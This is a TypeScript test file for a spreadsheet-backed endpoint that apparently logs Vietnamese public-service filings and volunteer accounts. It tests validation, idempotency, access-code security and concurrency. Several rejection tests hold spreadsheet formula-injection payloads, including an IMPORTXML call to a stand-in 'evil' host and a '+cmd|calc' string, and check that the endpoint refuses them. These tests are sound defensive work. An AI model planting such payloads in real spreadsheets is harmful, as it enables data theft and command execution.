// doPost / doGet / "Nhập từ tệp" through the built bundle: contract, faults, idempotency, concurrency.
import { describe, expect, it } from 'vitest';
import { SyncResponseSchema, HealthResponseSchema, OUTBOX_FILE_KIND } from '../../../shared/schemas/sync';
import { readyRegistry } from '../../fakes/addon-runtime';
import { consent, sheetRows } from './helpers';
import { sampleFiling } from '../../fakes/sample-records';

const uuid = () => crypto.randomUUID();

const filingRecord = (over: Record<string, unknown> = {}, clientId = uuid()) => sampleFiling({ consent: consent(), ...over }, clientId);
function accountRecord(over: Record<string, unknown> = {}, clientId = uuid()) {
  return {
    clientId,
    kind: 'account',
    account: { fullName: 'Trần Thị Bình', birthYear: 1975, toDanPho: 'Tổ dân phố 7', phone: '0912 345 678', apps: ['Cổng DVC quốc gia/VNeID', 'C-Thái Nguyên'], createdOn: '2026-11-20', consent: consent(), ...over },
  };
}
function envelope(code: string, records: unknown[], action: 'record' | 'hello' = 'record') {
  return { v: 1, action, accessCode: code, client: { app: 'tro-ly-dvc-extension', version: '0.1.0', sentAt: new Date().toISOString() }, records };
}

function dataRows(r: ReturnType<typeof readyRegistry>) {
  return { accounts: sheetRows(r.gas.ss, 'Tài khoản'), filings: sheetRows(r.gas.ss, 'Hồ sơ'), log: sheetRows(r.gas.ss, 'Nhật ký') };
}

describe('doGet', () => {
  it('answers health and version only', () => {
    const r = readyRegistry();
    const out = r.g.doGet!() as { getContent(): string; getMimeType(): string };
    expect(out.getMimeType()).toBe('JSON');
    expect(HealthResponseSchema.parse(JSON.parse(out.getContent()))).toMatchObject({ ok: true, v: 1 });
  });
});

describe('doPost', () => {
  it('hello: tells the options page who and which ward the code is linked to; records last use', () => {
    const r = readyRegistry();
    const { mime, body } = r.post(envelope(r.code, [], 'hello'));
    expect(mime).toBe('JSON');
    expect(SyncResponseSchema.parse(body)).toMatchObject({ ok: true, linked: { volunteerId: r.volunteerId, volunteerName: 'Lê Thị Hoa', ward: 'Phường Đồng Tiến' }, results: [] });
    const codes = r.run<Array<{ codeId: string; lastUsedAt: string; state: string }>>('listAccessCodes');
    expect(codes[0]).toMatchObject({ codeId: r.codeId, state: 'Đang dùng' });
    expect(codes[0]!.lastUsedAt).toMatch(/^\d{4}-/);
  });

  it('records a filing and an account as rows with the right fields, one kind per post, answering per record without personal data', () => {
    const r = readyRegistry();
    const f = filingRecord();
    const a = accountRecord();
    const { body: first } = r.post(envelope(r.code, [f, a]));
    // One kind of record per post: the account waits for the next one (not an error).
    expect(SyncResponseSchema.parse(first).results).toEqual([
      { clientId: f.clientId, status: 'created' },
      { clientId: a.clientId, status: 'deferred', message: expect.stringContaining('gửi lại ngay') },
    ]);
    expect(dataRows(r).accounts).toHaveLength(0);
    const { body } = r.post(envelope(r.code, [a]));
    expect(SyncResponseSchema.parse(body).results).toEqual([{ clientId: a.clientId, status: 'created' }]);
    expect(JSON.stringify([first, body])).not.toMatch(/Nguyễn|Trần|0912|\+849|G22/);
    const { accounts, filings, log } = dataRows(r);
    expect(filings).toHaveLength(1);
    expect(filings[0]).toMatchObject({ 'Mã gửi từ tiện ích': f.clientId, 'Họ và tên người dân': 'Nguyễn Văn An', 'Tổ dân phố': 'Tổ dân phố 5', 'Mã TTHC': '1.001193', 'Mã hồ sơ': 'G22.99-2611-000123', 'Tình nguyện viên': r.volunteerId, 'Đã đồng ý': true, 'Nguồn': 'Tiện ích trình duyệt' });
    expect((filings[0]!['Ngày nộp'] as Date).toISOString()).toBe('2026-11-19T17:00:00.000Z');
    expect(accounts[0]).toMatchObject({ 'Mã gửi từ tiện ích': a.clientId, 'Số điện thoại': '+84912345678', 'Ứng dụng đã đăng ký': 'Cổng DVC quốc gia/VNeID, C-Thái Nguyên', 'CCCD (4 số cuối)': '' });
    const added = log.filter((e) => e['Nguồn'] === 'Điểm nhận');
    expect(added.map((e) => e['Hành động'])).toEqual(['Thêm hồ sơ', 'Thêm tài khoản']);
    expect(String(added[1]!['Sau'])).toContain('+84 9•• ••• 678');
    expect(String(added[1]!['Sau'])).not.toContain('+84912345678');
  });

  it('a lost response then a retry of the same records writes nothing twice', () => {
    const r = readyRegistry();
    const recs = [filingRecord(), accountRecord()];
    r.post(envelope(r.code, recs.slice(0, 1))); // the answers are "lost"
    r.post(envelope(r.code, recs.slice(1)));
    const { body } = r.post(envelope(r.code, recs));
    expect(body.results.map((x: { status: string }) => x.status)).toEqual(['duplicate', 'deferred']);
    expect(r.post(envelope(r.code, recs.slice(1))).body.results.map((x: { status: string }) => x.status)).toEqual(['duplicate']);
    const { accounts, filings } = dataRows(r);
    expect(filings).toHaveLength(1);
    expect(accounts).toHaveLength(1);
    // Within one envelope too.
    const c = uuid();
    const { body: b2 } = r.post(envelope(r.code, [filingRecord({}, c), filingRecord({}, c)]));
    expect(b2.results.map((x: { status: string }) => x.status)).toEqual(['created', 'duplicate']);
  });

  const faults: Array<[string, (code: string) => string, string, RegExp]> = [
    ['malformed JSON', () => '{"v":1,"action":"record",', 'BAD_JSON', /JSON/],
    ['wrong envelope version', (c) => JSON.stringify({ ...envelope(c, [filingRecord()]), v: 2 }), 'BAD_VERSION', /cập nhật tiện ích/],
    ['oversize body (> 100 KB)', (c) => JSON.stringify(envelope(c, [filingRecord({ notes: 'x'.repeat(101 * 1024) })])), 'TOO_LARGE', /quá lớn/],
    ['unknown envelope field', (c) => JSON.stringify({ ...envelope(c, [filingRecord()]), extra: 1 }), 'INVALID', /Trường không được phép: extra/],
    ['password-looking envelope field', (c) => JSON.stringify({ ...envelope(c, [filingRecord()]), matKhau: 'x' }), 'INVALID', /mật khẩu/],
    ['missing access code', (c) => JSON.stringify({ ...envelope(c, [filingRecord()]), accessCode: '' }), 'AUTH_MISSING', /Thiếu mã truy cập/],
    ['wrong access code', () => JSON.stringify(envelope('DVC-AAAA-BBBB-CCCC-DDDD-EEEE', [filingRecord()])), 'AUTH_WRONG', /không đúng/],
  ];
  for (const [name, body, code, message] of faults) {
    it(`${name}: ${code}, a clear Vietnamese error, nothing written but a log line`, () => {
      const r = readyRegistry();
      const before = dataRows(r);
      const { body: res } = r.post(body(r.code));
      expect(SyncResponseSchema.parse(res)).toMatchObject({ ok: false, error: { code, retryable: false }, results: [] });
      expect(res.error.message).toMatch(message);
      const after = dataRows(r);
      expect(after.accounts).toEqual(before.accounts);
      expect(after.filings).toEqual(before.filings);
      expect(after.log).toHaveLength(before.log.length + 1);
      expect(String(after.log.at(-1)!['Hành động'])).toMatch(/^Từ chối/);
    });
  }

  const recordFaults: Array<[string, () => unknown, RegExp]> = [
    ['unknown record field', () => ({ ...filingRecord(), extra: true }), /Trường không được phép: extra/],
    ['password-looking field', () => ({ ...filingRecord(), filing: { ...filingRecord().filing, otp: '123456' } }), /mật khẩu, mã OTP/],
    ['OTP-looking value', () => filingRecord({ notes: 'OTP: 123456' }), /mật khẩu, mã OTP/],
    ['formula injection', () => filingRecord({ notes: '=IMPORTXML("http://evil","//a")' }), /không được bắt đầu bằng = \+ - @/],
    ['formula injection with +', () => filingRecord({ notes: '+cmd|calc' }), /không được bắt đầu bằng/],
    ['procedure not in the catalogue', () => filingRecord({ procedureId: 'IV.99' }), /không có trong danh mục/],
    ['procedure code mismatch', () => filingRecord({ procedureCode: '1.000000' }), /không khớp/],
    ['bad phone', () => accountRecord({ phone: '0212 345 678' }), /máy bàn/],
    ['no consent', () => filingRecord({ consent: { given: false, textVersion: 'v1', at: '2026-11-20T09:00:00+07:00' } }), /Cần có sự đồng ý/],
    ['CCCD sent by the extension', () => ({ ...accountRecord(), account: { ...accountRecord().account, cccd: '019080123456' } }), /Trường không được phép: cccd/],
  ];
  for (const [name, rec, message] of recordFaults) {
    it(`rejects a record with ${name}: per-record Vietnamese message, other records still written`, () => {
      const r = readyRegistry();
      const good = filingRecord();
      const bad = rec() as { clientId: string };
      const { body } = r.post(envelope(r.code, [bad, good]));
      expect(body.ok).toBe(true);
      expect(body.results[0]).toMatchObject({ clientId: bad.clientId, status: 'rejected' });
      expect(body.results[0].message).toMatch(message);
      expect(body.results[1]).toEqual({ clientId: good.clientId, status: 'created' });
      const { filings, accounts, log } = dataRows(r);
      expect(filings.map((f) => f['Mã gửi từ tiện ích'])).toEqual([good.clientId]);
      expect(accounts).toHaveLength(0);
      for (const s of r.gas.ss.sheets) expect(s.formulas.flat().filter(Boolean)).toEqual([]);
      expect(log.some((e) => String(e['Hành động']).startsWith('Từ chối 1 bản ghi'))).toBe(true);
      expect(JSON.stringify(log)).not.toMatch(/123456|IMPORTXML|calc/);
    });
  }

  it('revoked codes are refused and logged; codes are stored as hashes; repeated failures are slowed down', () => {
    let now = Date.parse('2026-11-20T03:00:00Z');
    const r = readyRegistry({ now: () => now });
    const short = r.run<{ code: string; codeId: string }>('issueAccessCode', r.volunteerId, 1);
    const revoked = r.run<{ code: string; codeId: string }>('issueAccessCode', r.volunteerId, 30);
    r.run('revokeAccessCode', revoked.codeId);
    const rev = r.post(envelope(revoked.code, [filingRecord()])).body;
    expect(rev.error).toMatchObject({ code: 'AUTH_REVOKED' });
    expect(rev.error.message).toContain('đã bị thu hồi');
    const codes = r.run<Array<{ codeId: string; state: string }>>('listAccessCodes');
    expect(codes.find((c) => c.codeId === revoked.codeId)!.state).toBe('Đã thu hồi');
    expect(short.code).toMatch(/^DVC(-[A-Z2-9]{4}){5}$/);
    // The sheet holds hashes only.
    expect(JSON.stringify(r.gas.ss.sheet('Mã truy cập')!.values)).not.toContain(short.code);
    // Five wrong tries with one code, then even checking stops for 15 minutes.
    for (let i = 0; i < 5; i++) expect(r.post(envelope('DVC-WRON-GWRO-NGWR-ONGW-RONG', [])).body.error.code).toBe('AUTH_WRONG');
    expect(r.post(envelope('DVC-WRON-GWRO-NGWR-ONGW-RONG', [])).body.error).toMatchObject({ code: 'RATE_LIMITED', retryable: true });
    now += 16 * 60 * 1000;
    expect(r.post(envelope('DVC-WRON-GWRO-NGWR-ONGW-RONG', [])).body.error.code).toBe('AUTH_WRONG');
    expect(dataRows(r).filings).toHaveLength(0);
    expect(dataRows(r).log.filter((e) => String(e['Hành động']).startsWith('Từ chối yêu cầu: AUTH')).length).toBeGreaterThanOrEqual(7);
  });

  it('an expired code is refused', () => {
    const r = readyRegistry();
    // Rewrite the expiry of the issued code to yesterday (as time passing would).
    const sheet = r.gas.ss.sheet('Mã truy cập')!;
    const col = (sheet.values[0] as string[]).indexOf('Hết hạn') + 1;
    sheet.writeCells(2, col, [['2020-01-01T00:00:00+07:00']]);
    // «Mã truy cập» is the record: «Thiết lập sổ» brings the endpoint's index in line with it.
    r.run('menuSetUp');
    const { body } = r.post(envelope(r.code, [filingRecord()]));
    expect(body.error).toMatchObject({ code: 'AUTH_EXPIRED', retryable: false });
    expect(body.error.message).toContain('hết hạn');
    expect(dataRows(r).filings).toHaveLength(0);
  });

  it('50 concurrent posts give 50 rows: contenders get BUSY while the lock is held, their retries land once', () => {
    const r = readyRegistry();
    const envelopes = Array.from({ length: 50 }, (_, i) => envelope(r.code, [filingRecord({ dossierCode: `G22.99-2611-${String(i).padStart(6, '0')}` })]));
    const pending = [...envelopes];
    const answers: Array<{ status: string; error?: string }> = [];
    // Interleave: while one request is inside the service (lock held), the next one arrives.
    let depth = 0;
    r.gas.counter.hook = (method) => {
      if (method !== 'Range.getValues' || depth > 0 || pending.length === 0) return;
      depth++;
      const next = pending.shift()!;
      const { body } = r.post(next);
      answers.push({ status: body.ok ? body.results[0].status : 'error', error: body.error?.code });
      if (!body.ok) pending.push(next); // the extension retries later
      depth--;
    };
    while (pending.length) {
      const next = pending.shift()!;
      const { body } = r.post(next);
      answers.push({ status: body.ok ? body.results[0].status : 'error', error: body.error?.code });
      if (!body.ok) pending.push(next);
    }
    r.gas.counter.hook = undefined;
    expect(answers.filter((a) => a.error === 'BUSY').length).toBeGreaterThan(0);
    expect(answers.filter((a) => a.status === 'created')).toHaveLength(50);
    const filings = dataRows(r).filings;
    expect(filings).toHaveLength(50);
    expect(new Set(filings.map((f) => f['Mã hồ sơ'])).size).toBe(50);
  }, 60_000);

  it('costs the same number of spreadsheet calls for 1, 10 and 100 records', () => {
    const counts = [1, 10, 100].map((n) => {
      const r = readyRegistry();
      r.post(envelope(r.code, [filingRecord()])); // warm: not the first write
      r.gas.counter.reset();
      r.post(envelope(r.code, Array.from({ length: n }, () => filingRecord())));
      return r.gas.counter.total;
    });
    expect(counts[1]).toBe(counts[0]);
    expect(counts[2]).toBe(counts[0]);
    expect(counts[0]).toBeLessThanOrEqual(12);
    const r = readyRegistry();
    r.post(envelope(r.code, [], 'hello'));
    expect(r.gas.counter.total).toBeLessThanOrEqual(6);
  });
});

describe('Nhập từ tệp', () => {
  const file = (records: unknown[]) => JSON.stringify({ v: 1, kind: OUTBOX_FILE_KIND, exportedAt: '2026-11-21T08:00:00+07:00', client: { app: 'tro-ly-dvc-extension', version: '0.1.0' }, records });

  it('gives the same rows as the endpoint, and the two never double each other', () => {
    const recs = [filingRecord(), accountRecord()];
    const viaPost = readyRegistry();
    for (const rec of recs) viaPost.post(envelope(viaPost.code, [rec]));
    const viaFile = readyRegistry();
    const res = viaFile.run<{ ok: boolean; created: number; duplicates: number; message: string }>('importOutboxFile', file(recs), viaFile.volunteerId);
    expect(res).toMatchObject({ ok: true, created: 2, duplicates: 0, message: 'Đã nhập 2 bản ghi mới (1 hồ sơ, 1 tài khoản).' });
    const strip = (rows: Array<Record<string, unknown>>) => rows.map(({ 'Mã bản ghi': _i, 'Cập nhật lúc': _u, 'Nguồn': _s, ...rest }) => rest);
    expect(strip(dataRows(viaFile).filings)).toEqual(strip(dataRows(viaPost).filings));
    expect(strip(dataRows(viaFile).accounts)).toEqual(strip(dataRows(viaPost).accounts));
    // Import again, then the extension posts the same records: nothing doubles.
    expect(viaFile.run<{ created: number; duplicates: number }>('importOutboxFile', file(recs), viaFile.volunteerId)).toMatchObject({ created: 0, duplicates: 2 });
    for (const rec of recs) expect(viaFile.post(envelope(viaFile.code, [rec])).body.results.map((x: { status: string }) => x.status)).toEqual(['duplicate']);
    expect(dataRows(viaFile).filings).toHaveLength(1);
    expect(dataRows(viaFile).log.some((e) => e['Nguồn'] === 'Nhập từ tệp')).toBe(true);
  });

  it('refuses a file that is not an outbox export, or of another version, with nothing written but a log line', () => {
    const r = readyRegistry();
    const before = dataRows(r);
    for (const [text, msg] of [
      ['không phải json', /không phải JSON/],
      [JSON.stringify({ hello: 1 }), /không phải tệp hàng chờ/],
      [file([filingRecord()]).replace('"v":1', '"v":3'), /Phiên bản tệp không khớp/],
    ] as const) {
      const res = r.run<{ ok: boolean; message: string }>('importOutboxFile', text, r.volunteerId);
      expect(res.ok).toBe(false);
      expect(res.message).toMatch(msg);
    }
    expect(r.run<{ ok: boolean; message: string }>('importOutboxFile', file([]), 'TNV-999').message).toContain('Hãy chọn tình nguyện viên');
    const after = dataRows(r);
    expect(after.filings).toEqual(before.filings);
    expect(after.log).toHaveLength(before.log.length + 4);
  });

  it('rejects bad records in a file one by one, like the endpoint', () => {
    const r = readyRegistry();
    const res = r.run<{ created: number; rejected: Array<{ message: string }> }>('importOutboxFile', file([filingRecord({ notes: '@SUM(1)' }), filingRecord()]), r.volunteerId);
    expect(res.created).toBe(1);
    expect(res.rejected[0]!.message).toMatch(/không được bắt đầu bằng/);
  });
});
